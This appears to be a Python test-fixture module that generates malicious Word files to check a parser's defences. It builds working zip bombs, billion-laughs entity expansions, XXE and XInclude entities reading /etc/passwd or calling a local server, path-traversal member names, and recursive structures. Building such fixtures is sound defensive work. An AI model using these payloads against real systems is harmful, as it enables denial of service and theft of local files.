"""Word files that unpack without end, expand without end, or reach for what is none of theirs.

In: how large it is to be. Out: the bytes of a .docx file. `{PORT}` is where a server listens that nobody may ask.
"""

# ruff: noqa: D103, ARG001 - the name of a function says what its file is; some have one size only.

import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from docx import Document

from eval.trust.hostile.hostile_file import HostileFile, times

_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_BOMB = f'<!DOCTYPE w:document [<!ENTITY l0 "lol">{_LAUGHS}]>'
_PARAGRAPH = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
_STYLE = '<w:style w:type="paragraph" w:styleId="{}"><w:name w:val="{}"/>{}</w:style>'
_XML = '<?xml version="1.0"?>'
_DOCUMENT = "word/document.xml"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _file(parts: dict[str, bytes], more: dict[str, bytes] | None = None) -> bytes:
    """A valid file with some `parts` replaced, and others put beside them."""
    valid, made = BytesIO(), BytesIO()
    document = Document()
    document.add_paragraph("1. The Conference met in Geneva.")
    document.save(valid)
    with ZipFile(valid) as source, ZipFile(made, "w", ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, parts.get(name) or source.read(name))
        for name, data in (more or {}).items():
            target.writestr(name, data)
    return made.getvalue()


def _related(relations: str) -> bytes:
    """The relations of a valid document, with others behind them."""
    with ZipFile(BytesIO(_file({}))) as valid:
        there = valid.read("word/_rels/document.xml.rels").decode()
    return there.replace("</Relationships>", f"{relations}</Relationships>").encode()


def _body(content: str, declaration: str = "", names: str = "") -> bytes:
    document = f"{declaration}<w:document {_W} {names}><w:body>{content}</w:body></w:document>"
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{document}'.encode()


def _packed_zeros(size: int) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(1 << 20)
    return b"".join(packer.compress(block) for _ in range(max(1, size >> 20))) + packer.flush()


def picture_of_ten_gigabytes(scale: float) -> bytes:
    """A thousandth of it in the file."""
    size = times(10_000_000_000, scale)
    packed = _packed_zeros(size)
    return _with_member(b"word/media/image1.png", packed, (size >> 20 or 1) << 20)


def picture_that_lies_about_its_size(scale: float) -> bytes:
    return _with_member(b"word/media/image1.png", _packed_zeros(times(10_000_000_000, scale)), 1_000)


def document_that_lies_about_its_size(scale: float) -> bytes:
    """Says that it unpacks to a kilobyte."""
    size = times(3_000_000_000, scale)
    return _with_member(_DOCUMENT.encode(), _packed_zeros(size), 1_000)


def _with_member(name: bytes, packed: bytes, said_size: int) -> bytes:
    """A valid file with a member more, whose size the directory tells as it likes."""
    whole = _file({})
    directory = whole.rindex(b"PK\x05\x06")
    start = int.from_bytes(whole[directory + 16 : directory + 20], "little")
    count = int.from_bytes(whole[directory + 10 : directory + 12], "little") + 1
    sizes = (
        (0).to_bytes(4, "little") + len(packed).to_bytes(4, "little") + min(said_size, 0xFFFFFFFE).to_bytes(4, "little")
    )
    head = b"\x14\0\0\0\x08\0\0\0\0\0" + sizes + len(name).to_bytes(2, "little") + b"\0\0"
    local = b"PK\x03\x04" + head + name + packed
    entry = b"PK\x01\x02\x14\0" + head + b"\0\0\0\0\0\0\0\0\0\0" + start.to_bytes(4, "little") + name
    entries = whole[start:directory] + entry
    end = (
        b"PK\x05\x06\0\0\0\0" + 2 * count.to_bytes(2, "little") + len(entries).to_bytes(4, "little")
        + (start + len(local)).to_bytes(4, "little") + b"\0\0"
    )  # fmt: skip
    return whole[:start] + local + entries + end


def members_that_overlap(scale: float) -> bytes:
    """Ten thousand names for one member."""
    size = times(100_000_000, scale)
    packed = _packed_zeros(size)
    whole = _with_member(b"word/media/0.png", packed, (size >> 20 or 1) << 20)
    directory = whole.rindex(b"PK\x05\x06")
    start = int.from_bytes(whole[directory + 16 : directory + 20], "little")
    last = whole.rindex(b"PK\x01\x02", 0, directory)
    entry, count = whole[last:directory], times(10_000, scale)
    entries = whole[start:last] + entry * count
    total = min(int.from_bytes(whole[directory + 10 : directory + 12], "little") + count - 1, 0xFFFF)
    end = (
        b"PK\x05\x06\0\0\0\0" + 2 * total.to_bytes(2, "little") + len(entries).to_bytes(4, "little")
        + start.to_bytes(4, "little") + b"\0\0"
    )  # fmt: skip
    return whole[:start] + entries + end


def file_in_a_file(scale: float) -> bytes:
    """Nested as a nut: who unpacks what he finds never ends."""
    inner = _file({})
    for _ in range(times(20, scale)):
        inner = _file({}, {"word/embeddings/inner.docx": inner, "inner.zip": inner[: 1 << 20]})
    return inner


def ten_thousand_members(scale: float) -> bytes:
    return _file({}, {f"word/media/{number}.xml": b"<a/>" for number in range(times(10_000, scale))})


def names_that_lead_out(scale: float) -> bytes:
    return _file({}, {"../../../../tmp/out.txt": b"out", "/etc/out.txt": b"out", "word\\..\\..\\out.txt": b"out"})


def a_billion_laughs(scale: float) -> bytes:
    text = _PARAGRAPH.format("&l9;") * times(100, scale)
    return _file({_DOCUMENT: _body(text + _PARAGRAPH.format("text"), _BOMB)})


def laughs_in_the_styles(scale: float) -> bytes:
    styles = f"{_XML}{_BOMB}<w:styles {_W}>{_STYLE.format('a', '&l9;', '')}</w:styles>"
    return _file({"word/styles.xml": styles.encode()})


def laughs_in_the_settings(scale: float) -> bytes:
    return _file({"word/settings.xml": f'<?xml version="1.0"?>{_BOMB}<w:settings {_W}>&l9;</w:settings>'.encode()})


def laughs_in_the_types(scale: float) -> bytes:
    types = f'<?xml version="1.0"?>{_BOMB}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">&l9;</Types>'
    return _file({"[Content_Types].xml": types.encode()})


def quadratic_entities(scale: float) -> bytes:
    size = times(100_000, scale)
    return _file({_DOCUMENT: _body(_PARAGRAPH.format("&a;" * size), f'<!DOCTYPE a [<!ENTITY a "{"a" * size}">]>')})


def attribute_entities(scale: float) -> bytes:
    """Attributes are expanded even by parsers that leave entities in texts alone."""
    size = times(50_000, scale)
    value = "&a;" * size
    body = f'<w:p><w:pPr><w:pStyle w:val="{value}"/></w:pPr><w:r><w:t>text</w:t></w:r></w:p>'
    return _file({_DOCUMENT: _body(body, f'<!DOCTYPE a [<!ENTITY a "{"a" * size}">]>')})


def external_entities(scale: float) -> bytes:
    outside = (
        '<!DOCTYPE a [<!ENTITY p SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://127.0.0.1:{PORT}/docx">'
        '<!ENTITY % d SYSTEM "http://127.0.0.1:{PORT}/dtd"> %d;]>'
    )
    include = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    body = _PARAGRAPH.format("before &p; &h; after") + '<xi:include href="file:///etc/passwd" parse="text"/>'
    return _file({_DOCUMENT: _body(body, outside, include), "word/settings.xml": _settings(outside)})


def _settings(declaration: str) -> bytes:
    return f'<?xml version="1.0"?>{declaration}<w:settings {_W}>&p;</w:settings>'.encode()


def external_relations(scale: float) -> bytes:
    """Parts that lie elsewhere: a template, a picture, the numbering."""
    relations = "".join(
        f'<Relationship Id="x{kind}" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        for kind in ("attachedTemplate", "image", "footnotes", "subDocument")
        for target in ("http://127.0.0.1:{PORT}/" + kind,)
    )
    return _file({"word/_rels/document.xml.rels": _related(relations)})


def relations_in_a_circle(scale: float) -> bytes:
    relations = (
        f'<Relationship Id="a" Type="{_RELATIONS}/numbering" Target="document.xml"/>'
        f'<Relationship Id="b" Type="{_RELATIONS}/footnotes" Target="../../../../etc/passwd"/>'
    )
    return _file({"word/_rels/document.xml.rels": _related(relations)})


def tables_in_tables(scale: float) -> bytes:
    depth = times(100_000, scale)
    return _file({_DOCUMENT: _body("<w:tbl><w:tr><w:tc>" * depth + "</w:tc></w:tr></w:tbl>" * depth)})


def as_deep_as_is_let_through(scale: float) -> bytes:
    depth = 80
    return _file(
        {_DOCUMENT: _body("<w:tbl><w:tr><w:tc>" * depth + _PARAGRAPH.format("text") + "</w:tc></w:tr></w:tbl>" * depth)}
    )


def text_boxes_in_text_boxes(scale: float) -> bytes:
    depth = 60
    opening = "<w:p><w:r><w:t>a</w:t><w:txbxContent>" * depth
    return _file({_DOCUMENT: _body(opening + _PARAGRAPH.format("text") + "</w:txbxContent></w:r></w:p>" * depth)})


def a_million_runs(scale: float) -> bytes:
    return _file({_DOCUMENT: _body("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * times(1_000_000, scale) + "</w:p>")})


def a_million_empty_paragraphs(scale: float) -> bytes:
    return _file({_DOCUMENT: _body("<w:p/>" * times(2_000_000, scale) + _PARAGRAPH.format("text"))})


def a_gigabyte_of_markup(scale: float) -> bytes:
    return _file(
        {_DOCUMENT: _body("<w:p><w:pPr><w:rPr/></w:pPr></w:p>" * times(25_000_000, scale) + _PARAGRAPH.format("a"))}
    )


def notes_referred_to_a_million_times(scale: float) -> bytes:
    """Each time the note would be printed again."""
    note = f'<?xml version="1.0"?><w:footnotes {_W}><w:footnote w:id="1">{_PARAGRAPH.format("n" * times(10_000, scale))}</w:footnote></w:footnotes>'
    reference = '<w:r><w:footnoteReference w:id="1"/></w:r>' * times(1_000_000, scale)
    parts = {
        _DOCUMENT: _body(f"<w:p><w:r><w:t>text</w:t></w:r>{reference}</w:p>"),
        "word/_rels/document.xml.rels": _related(
            f'<Relationship Id="n" Type="{_RELATIONS}/footnotes" Target="footnotes.xml"/>'
        ),
    }
    return _file(parts, {"word/footnotes.xml": note.encode()})


def note_that_refers_to_itself(scale: float) -> bytes:
    whole = notes_referred_to_a_million_times(1e-6)
    made = BytesIO()
    with ZipFile(BytesIO(whole)) as source, ZipFile(made, "w", ZIP_DEFLATED) as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "word/footnotes.xml":
                data = data.replace(b"<w:r>", b'<w:r><w:footnoteReference w:id="1"/></w:r><w:r>')
            target.writestr(name, data)
    return made.getvalue()


def numbers_beyond_number(scale: float) -> bytes:
    """A list that begins at a number whose letters would fill the memory."""
    levels = f'<w:lvl w:ilvl="0"><w:start w:val="{"9" * times(4_000, scale)}"/><w:numFmt w:val="lowerLetter"/><w:lvlText w:val="%1."/></w:lvl>'
    numbering = f'<?xml version="1.0"?><w:numbering {_W}><w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    item = (
        '<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>item</w:t></w:r></w:p>'
    )
    return _file({_DOCUMENT: _body(item * times(100, scale)), "word/numbering.xml": numbering.encode()})


def styles_in_a_circle(scale: float) -> bytes:
    count = times(20_000, scale)
    chain = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:name w:val="s{n}"/><w:basedOn w:val="s{(n + 1) % count}"/></w:style>'
        for n in range(count)
    )
    body = '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>text</w:t></w:r></w:p>'
    return _file(
        {"word/styles.xml": f'<?xml version="1.0"?><w:styles {_W}>{chain}</w:styles>'.encode(), _DOCUMENT: _body(body)}
    )


def symbols_that_are_none(scale: float) -> bytes:
    return _file(
        {
            _DOCUMENT: _body(
                '<w:p><w:r><w:t>text</w:t><w:sym w:char="FFFFFFFF"/><w:sym w:char="D800"/><w:sym w:char="x"/></w:r></w:p>'
            )
        }
    )


def cut_off(scale: float) -> bytes:
    whole = _file({})
    return whole[: len(whole) // 2]


def signature_alone(scale: float) -> bytes:
    return b"PK\x03\x04"


FILES = tuple(
    HostileFile(".docx", make)
    for make in list(globals().values())
    if callable(make) and getattr(make, "__module__", "") == __name__ and not make.__name__.startswith("_")
)
